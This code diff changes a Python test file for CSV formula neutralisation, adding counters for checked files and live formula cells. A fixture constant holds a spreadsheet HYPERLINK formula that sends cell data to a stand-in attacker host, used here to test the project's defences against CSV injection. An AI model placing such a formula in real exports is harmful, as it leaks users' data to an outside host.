@@ -15,6 +15,10 @@ import pandas as pd
 import pytest
 
 from immunolab.io.csv_safe import FORMULA_STARTS, neutralise_cell, neutralise_row, write_csv
+from tests.reliability.conftest import FIGURES
+
+#: figures for `make reliability` (rendered into the README)
+COUNTS = FIGURES.setdefault("test_compare_tables_neutralise_formulas", {"csv_files": 0, "live_formulas": 0})
 
 REPO = Path(__file__).resolve().parents[2]
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
@@ -42,10 +46,10 @@ def _cells(path: Path) -> list[list[str]]:
 
 
 def _assert_no_live_formula(path: Path) -> None:
-    for row in _cells(path):
-        for cell in row:
-            if cell.startswith(FORMULA_STARTS):
-                assert NUMBER.match(cell.strip()), f"{path.name}: live formula cell {cell!r}"
+    COUNTS["csv_files"] += 1
+    live = [c for row in _cells(path) for c in row if c.startswith(FORMULA_STARTS) and not NUMBER.match(c.strip())]
+    COUNTS["live_formulas"] += len(live)
+    assert live == [], f"{path.name}: live formula cells {live[:3]!r}"
 
 
 def test_write_csv_neutralises_text_cells_and_headers_but_keeps_numbers_numeric(tmp_path: Path) -> None:
